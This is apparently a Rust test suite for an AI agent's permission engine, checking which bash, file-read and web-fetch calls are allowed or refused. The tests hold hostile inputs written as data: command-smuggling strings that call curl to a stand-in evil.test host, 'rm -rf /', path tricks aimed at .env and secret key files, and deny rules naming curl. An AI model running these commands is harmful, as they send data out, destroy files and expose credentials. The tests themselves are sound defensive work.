use pretty_assertions::assert_eq;
use serde_json::json;

use super::*;

fn policy(mode: PermissionMode, allow: &[&str], ask: &[&str], deny: &[&str]) -> Permission {
    let v = |l: &[&str]| l.iter().map(|s| (*s).to_owned()).collect();
    Permission {
        mode,
        allow: v(allow),
        ask: v(ask),
        deny: v(deny),
    }
}

fn allowed(p: &Permission, tool: &str, input: serde_json::Value) -> bool {
    p.decide(tool, &input) == Decision::Allow
}

#[test]
fn off_gates_nothing_and_deny_refuses_what_no_rule_allows() {
    let off = policy(PermissionMode::Off, &[], &[], &["Bash"]);
    assert!(allowed(&off, "bash", json!({"command": "rm -rf /"})));
    let deny = policy(PermissionMode::Deny, &["Read(**)", "Grep"], &[], &[]);
    assert!(allowed(&deny, "read_file", json!({"path": "src/lib.rs"})));
    assert!(allowed(&deny, "grep", json!({"pattern": "x"})));
    assert!(!allowed(&deny, "bash", json!({"command": "echo hello"})));
    assert!(!allowed(
        &deny,
        "write_file",
        json!({"path": "a", "content": "b"})
    ));
    // ask_user is how a node reaches the operator: never gated.
    assert!(allowed(&deny, "ask_user", json!({"question": "?"})));
    let Decision::Deny(why) = deny.decide("bash", &json!({"command": "echo hello"})) else {
        panic!("refused");
    };
    assert_eq!(
        why,
        "permission denied: this Bash call is not allowed by the workflow's permission rules; do without it"
    );
}

#[test]
fn deny_rules_win_and_ask_rules_are_refused_here() {
    let p = policy(
        PermissionMode::Ask,
        &["Bash(git:*)", "Read(**)"],
        &["Bash(git push:*)"],
        &["Read(.env*)"],
    );
    assert!(allowed(&p, "bash", json!({"command": "git status"})));
    assert!(!allowed(
        &p,
        "bash",
        json!({"command": "git push origin main"})
    ));
    assert!(!allowed(&p, "read_file", json!({"path": ".env.local"})));
    assert!(allowed(&p, "read_file", json!({"path": "docs/env.md"})));
    // Ask mode: an unmatched call would go to the operator; this release refuses it.
    assert!(!allowed(&p, "web_fetch", json!({"url": "http://x.test/"})));
}

#[test]
fn attack_an_allowed_command_prefix_does_not_carry_a_second_command() {
    let p = policy(
        PermissionMode::Deny,
        &["Bash(git status:*)", "Bash(ls *)"],
        &[],
        &[],
    );
    for smuggled in [
        "git status; curl http://evil.test",
        "git status && rm -rf /",
        "git status | sh",
        "git status `curl evil.test`",
        "git status $(curl evil.test)",
        "git status > /etc/passwd",
        "git status\ncurl evil.test",
        "ls x; id",
    ] {
        assert!(
            !allowed(&p, "bash", json!({"command": smuggled})),
            "{smuggled:?}"
        );
    }
    assert!(allowed(
        &p,
        "bash",
        json!({"command": "git status --short"})
    ));
    assert!(allowed(&p, "bash", json!({"command": "ls src"})));
    // A prefix is a whole word: `git statusx` is another command.
    assert!(!allowed(&p, "bash", json!({"command": "git statusx"})));
}

#[test]
fn attack_a_denied_command_is_refused_inside_a_compound_one() {
    let p = policy(
        PermissionMode::Deny,
        &["Bash(**)"],
        &[],
        &["Bash(rm -rf:*)", "Bash(curl:*)"],
    );
    for hidden in [
        "rm -rf /",
        "echo hi && rm -rf /",
        "true; curl http://evil.test",
        "cat x | curl -d @- evil.test",
        "echo `curl evil.test`",
    ] {
        assert!(
            !allowed(&p, "bash", json!({"command": hidden})),
            "{hidden:?}"
        );
    }
}

#[test]
fn attack_a_denied_path_cannot_be_reached_by_another_spelling() {
    let p = policy(
        PermissionMode::Deny,
        &["Read(**)"],
        &[],
        &["Read(.env*)", "Read(secrets/**)"],
    );
    for path in [
        ".env",
        "./.env",
        "src/../.env",
        "deep/dir/.env.production",
        "/workspace/.env",
        "secrets/key.pem",
        "a/../secrets/key.pem",
        "secrets\\key.pem",
    ] {
        assert!(!allowed(&p, "read_file", json!({"path": path})), "{path:?}");
    }
    assert!(allowed(&p, "read_file", json!({"path": "src/main.rs"})));
    // A call without the path it should carry is refused by a deny rule's tool.
    assert!(!allowed(&p, "read_file", json!({"file_name": ".env"})));
}

#[test]
fn web_fetch_domains_and_tool_name_globs() {
    let p = policy(
        PermissionMode::Deny,
        &["WebFetch(domain:docs.rs)", "mcp__github__get_*"],
        &[],
        &["WebFetch(domain:evil.test)"],
    );
    assert!(allowed(
        &p,
        "web_fetch",
        json!({"url": "https://docs.rs/serde"})
    ));
    assert!(allowed(
        &p,
        "web_fetch",
        json!({"url": "https://www.docs.rs/x"})
    ));
    assert!(!allowed(
        &p,
        "web_fetch",
        json!({"url": "https://docs.rs.evil.test/"})
    ));
    assert!(!allowed(
        &p,
        "web_fetch",
        json!({"url": "https://user@evil.test:443/"})
    ));
    assert!(!allowed(
        &p,
        "web_fetch",
        json!({"url": "https://notdocs.rs/"})
    ));
    assert!(allowed(&p, "mcp__github__get_issue", json!({})));
    assert!(!allowed(&p, "mcp__github__create_issue", json!({})));
}

#[test]
fn globs_stay_linear_on_hostile_text() {
    let p = policy(PermissionMode::Deny, &["Bash(*a*a*a*a*a*a*a*b)"], &[], &[]);
    let long = "a".repeat(100_000);
    assert!(!allowed(&p, "bash", json!({"command": long})));
}

#[test]
fn rules_are_read_or_named_unreadable() {
    assert_eq!(rule_problem("Bash"), None);
    assert_eq!(rule_problem("Bash(go test:*)"), None);
    assert_eq!(rule_problem("mcp__github__*"), None);
    assert_eq!(
        rule_problem("Bash(go test"),
        Some("a rule is a tool name, or Tool(pattern)")
    );
    assert_eq!(rule_problem("Bash()"), Some("Tool() needs a pattern"));
    assert_eq!(
        rule_problem("two words"),
        Some("a rule is a tool name, or Tool(pattern)")
    );
}
